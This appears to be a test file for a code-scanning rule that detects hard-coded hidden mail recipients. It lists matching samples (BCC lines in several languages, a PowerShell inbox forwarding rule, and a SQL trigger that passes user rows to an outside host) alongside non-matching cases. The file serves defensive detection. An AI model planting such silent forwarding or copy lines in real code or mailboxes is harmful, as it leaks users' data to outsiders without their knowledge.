import { ruleCases } from '../testing/cases.ts';
import { fixedRecipient } from './suspect-addresses.ts';

ruleCases(fixedRecipient, {
  hits: [
    { name: 'a blind copy', path: 'a.py', text: 'msg["Bcc"] = "x@copies.test"\n' },
    { name: 'one in an object', path: 'a.js', text: 'send({ to, bcc: "x@copies.test" });\n' },
    { name: 'one by a method', path: 'a.php', text: '<?php $mail->addBCC("x@copies.test");\n' },
    { name: 'one by a flag', path: 'a.sh', text: 'msmtp-send --bcc x@copies.test < mail\n' },
    {
      name: 'a rule of a mailbox',
      path: 'a.ps1',
      text: 'New-InboxRule -Name "Sync" -ForwardTo "x@copies.test"\n',
    },
    {
      name: 'rows that a trigger hands over',
      path: 'a.sql',
      text: "CREATE TRIGGER t AFTER INSERT ON users EXECUTE FUNCTION dblink_exec('host=c.test', 'x');\n",
    },
  ],
  misses: [
    {
      name: 'an address of the setup',
      path: 'a.js',
      text: 'send({ bcc: process.env.ARCHIVE });\n',
    },
    { name: 'an example', path: 'a.js', text: 'send({ bcc: "audit@example.com" });\n' },
    {
      name: "an archive in the sender's domain",
      path: 'a.js',
      text: 'send({ from: "shop@acme.test", bcc: "archive@acme.test" });\n',
    },
    {
      // anthropics/skills, skills/internal-comms (Apache-2.0), in other words
      name: 'a word in a sentence',
      text: 'Put everybody who only has to know in bcc.\n',
    },
  ],
});
